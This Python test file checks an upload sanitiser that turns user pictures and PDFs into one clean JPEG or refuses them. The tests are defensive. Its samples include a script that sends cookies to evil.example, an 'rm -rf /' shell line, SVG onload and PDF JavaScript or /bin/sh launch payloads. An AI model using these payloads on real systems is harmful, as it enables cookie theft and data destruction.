"""Whatever people send in, one clean picture of it is kept, or nothing and a reason."""

import io

import pytest
from factories.pictures import a_paper, a_paper_with, a_picture, a_png_that_says_it_measures
from PIL import Image

from sotomado.files import checking, guarded
from sotomado.files.checking import LARGEST_BYTES, checked
from sotomado.files.developing import FRAMES
from sotomado.files.errors import Reason, Refused
from sotomado.files.models import Purpose

PORTRAIT, CERTIFICATE = Purpose.PORTRAIT, Purpose.CERTIFICATE
SCRIPT = b"<script>fetch('https://evil.example/' + document.cookie)</script>"


def shown(content: bytes, purpose: Purpose = PORTRAIT) -> Image.Image:
    """The picture that is kept, read back."""
    clean = checked(content, purpose)
    assert clean.media_type == "image/jpeg"
    picture = Image.open(io.BytesIO(clean.content))
    picture.load()
    assert picture.format == "JPEG"
    assert picture.mode == "RGB"
    return picture


def reason(content: bytes, purpose: Purpose = PORTRAIT) -> Reason:
    with pytest.raises(Refused) as refused:
        checked(content, purpose)
    return refused.value.reason


@pytest.mark.parametrize("purpose", list(Purpose))
@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_pictures_of_three_kinds_are_taken(kind, purpose):
    assert shown(a_picture(kind), purpose).size[1] == 600


@pytest.mark.parametrize(
    ("kind", "mode"),
    [("JPEG", "CMYK"), ("JPEG", "L"), ("PNG", "P"), ("PNG", "1"), ("PNG", "LA"), ("PNG", "I;16"), ("WEBP", "RGBA")],
)
def test_pictures_of_every_make_become_plain_ones(kind, mode):
    assert shown(a_picture(kind, mode=mode)).size == (800, 600)


def test_sixteen_bits_a_pixel_keep_their_grey():
    picture = shown(a_picture("PNG", mode="I;16", colour=128 * 256))

    assert abs(picture.getpixel((5, 5))[0] - 128) <= 2


def test_what_was_see_through_shows_white():
    assert shown(a_picture("PNG", mode="RGBA", colour=(0, 0, 0, 0))).getpixel((9, 9)) == (255, 255, 255)


def test_a_portrait_is_no_larger_than_it_needs_to_be_and_no_strip():
    frame = FRAMES["portrait"]
    slimmest, widest = frame.shape
    wide, tall = shown(a_picture(size=(6000, 500))), shown(a_picture(size=(500, 6000)))

    assert wide.width / wide.height == pytest.approx(widest, abs=0.02)
    assert tall.width / tall.height == pytest.approx(slimmest, abs=0.02)
    assert max(shown(a_picture(size=(4000, 3000))).size) == frame.longest


def test_a_certificate_keeps_all_of_its_sheet():
    assert shown(a_picture(size=(4800, 1000)), CERTIFICATE).size == (2400, 500)


def test_place_camera_and_comment_do_not_travel_with_a_picture():
    exif = Image.Exif()
    exif[0x010F] = "Camera of Hana"
    exif[0x8825] = {1: "N", 2: (35.0, 39.0, 30.0)}
    sent = a_picture(exif=exif, comment=b"my street", icc_profile=b"\0" * 200)
    assert b"Camera of Hana" in sent

    kept = checked(sent, PORTRAIT).content

    assert b"Camera of Hana" not in kept
    assert b"my street" not in kept
    assert not Image.open(io.BytesIO(kept)).getexif()
    assert "icc_profile" not in Image.open(io.BytesIO(kept)).info


def test_a_picture_taken_sideways_stands_upright():
    sideways = Image.new("RGB", (600, 400), "white")
    sideways.paste("black", (0, 0, 100, 400))  # on the left; turned a quarter to the right it is on top
    exif = Image.Exif()
    exif[0x0112] = 6
    out = io.BytesIO()
    sideways.save(out, "JPEG", exif=exif)

    upright = shown(out.getvalue(), CERTIFICATE)

    assert upright.size == (400, 600)
    assert upright.getpixel((200, 20))[0] < 40
    assert upright.getpixel((200, 580))[0] > 215


def test_what_was_hidden_behind_a_picture_is_gone():
    polyglot = a_picture("PNG") + SCRIPT + b"PK\x03\x04 a zip file too"

    kept = checked(polyglot, PORTRAIT).content

    assert b"script" not in kept
    assert b"PK\x03\x04" not in kept


@pytest.mark.parametrize(
    "content",
    [
        SCRIPT,
        b"\xef\xbb\xbf<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<?xml version='1.0'?><svg/>",
        b"GIF89a" + SCRIPT,
        b"BM" + b"\0" * 100,
        b"MZ" + b"\0" * 100,
        b"#!/bin/sh\nrm -rf /\n",
        b"RIFF\0\0\0\0AVI LIST",
    ],
)
@pytest.mark.parametrize("purpose", list(Purpose))
def test_what_is_no_picture_is_refused_whatever_it_calls_itself(content, purpose):
    assert reason(content, purpose) is Reason.UNKNOWN_KIND


def test_a_script_that_begins_like_a_picture_is_a_damaged_picture():
    assert reason(b"\x89PNG\r\n\x1a\n" + SCRIPT) is Reason.DAMAGED
    assert reason(b"\xff\xd8\xff" + SCRIPT) is Reason.DAMAGED
    assert reason(b"RIFF\x10\0\0\0WEBP" + SCRIPT) is Reason.DAMAGED
    assert reason(b"%PDF-1.7\n" + SCRIPT, CERTIFICATE) is Reason.DAMAGED


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_half_a_picture_is_none(kind):
    whole = io.BytesIO()
    Image.effect_noise((500, 500), 80).convert("RGB").save(whole, kind)

    assert reason(whole.getvalue()[: len(whole.getvalue()) // 2]) is Reason.DAMAGED


def test_a_phones_own_kind_is_told_apart():
    assert reason(b"\0\0\0\x18ftypheic\0\0\0\0mif1heic") is Reason.HEIC


@pytest.mark.parametrize("size", [(1, 1), (199, 900), (2000, 3)])
def test_what_shows_nothing_is_refused(size):
    assert reason(a_picture("PNG", size=size)) is Reason.TOO_SMALL


@pytest.mark.parametrize("size", [(50_000, 50_000), (2**31 - 1, 2**31 - 1), (9_000, 9_000)])
def test_a_picture_that_would_not_fit_into_memory_is_not_opened(size):
    assert reason(a_png_that_says_it_measures(*size)) is Reason.TOO_MANY_PIXELS


def test_a_jpeg_with_endless_scans_is_refused():
    sent = a_picture(progressive=True)
    scan = sent[sent.rindex(b"\xff\xda") : -2]

    assert reason(sent[:-2] + scan * 200 + b"\xff\xd9") is Reason.DAMAGED


@pytest.mark.parametrize("kind", ["PNG", "WEBP"])
def test_a_moving_picture_is_refused(kind):
    frames = [Image.new("RGB", (300, 300), colour) for colour in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, kind, save_all=True, append_images=frames[1:])

    assert reason(out.getvalue()) is Reason.MOVING


def test_nothing_and_too_much_are_told_before_anything_is_looked_at(monkeypatch):
    monkeypatch.setattr(guarded.subprocess, "run", None)

    assert reason(b"") is Reason.EMPTY
    assert reason(b"\xff\xd8\xff" + b"\0" * LARGEST_BYTES) is Reason.TOO_LARGE


def test_the_pages_of_a_paper_stand_below_one_another():
    one, three = shown(a_paper(1), CERTIFICATE), shown(a_paper(3), CERTIFICATE)

    assert max(one.size) == 2400
    assert three.height > three.width * 3 * 1.3
    assert three.getpixel((50, 50))[0] > three.getpixel((50, three.height - 50))[0] + 10


def test_a_paper_is_no_portrait():
    assert reason(a_paper()) is Reason.UNKNOWN_KIND


def test_a_paper_of_too_many_pages_is_refused():
    assert shown(a_paper(5), CERTIFICATE).height > 5000
    assert reason(a_paper(6), CERTIFICATE) is Reason.TOO_MANY_PAGES


@pytest.mark.parametrize(
    "objects",
    [
        "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>",
        "/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>",
        "/OpenAction << /S /Launch /F (/bin/sh) >>",
    ],
)
def test_nothing_in_a_paper_runs_or_is_kept(objects):
    sent = a_paper_with(objects)

    kept = checked(sent, CERTIFICATE)

    assert kept.media_type == "image/jpeg"
    assert b"JavaScript" not in kept.content
    assert b"/bin/sh" not in kept.content


def test_a_paper_with_a_password_is_told_apart():
    encrypted = a_paper_with("").replace(
        b"trailer\n<< /Root 1 0 R >>",
        b"4 0 obj\n<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O ("
        + b"o" * 32
        + b") /U ("
        + b"u" * 32
        + b") >>\nendobj\ntrailer\n<< /Root 1 0 R /Encrypt 4 0 R /ID [(aaaaaaaaaaaaaaaa) (aaaaaaaaaaaaaaaa)] >>",
    )

    assert reason(encrypted, CERTIFICATE) is Reason.LOCKED


def test_what_brings_the_looking_down_brings_nothing_else_down(monkeypatch, tmp_path):
    """A decoder that crashes, or eats memory, does so in a process of its own."""
    crashing = tmp_path / "crashing.py"
    crashing.write_text("import os, signal; os.kill(os.getpid(), signal.SIGSEGV)")
    monkeypatch.setattr(checking, "_DEVELOPING", str(crashing))
    assert reason(a_picture()) is Reason.DAMAGED

    sleeping = tmp_path / "sleeping.py"
    sleeping.write_text("import time; time.sleep(60)")
    monkeypatch.setattr(checking, "_DEVELOPING", str(sleeping))
    monkeypatch.setattr(checking, "PATIENCE_SECONDS", 0.5)
    assert reason(a_picture()) is Reason.DAMAGED


def test_the_looking_knows_none_of_our_secrets(monkeypatch, tmp_path):
    telling = tmp_path / "telling.py"
    telling.write_text("import os, sys; sys.stdout.write(','.join(os.environ)); sys.exit(9)")
    monkeypatch.setenv("SOTOMADO_FIELD_KEYS", "secret")
    monkeypatch.setattr(checking, "_DEVELOPING", str(telling))
    seen = []
    run = guarded.subprocess.run
    monkeypatch.setattr(
        guarded.subprocess, "run", lambda *args, **options: seen.append(run(*args, **options)) or seen[0]
    )

    assert reason(a_picture()) is Reason.DAMAGED

    assert b"SOTOMADO" not in seen[0].stdout
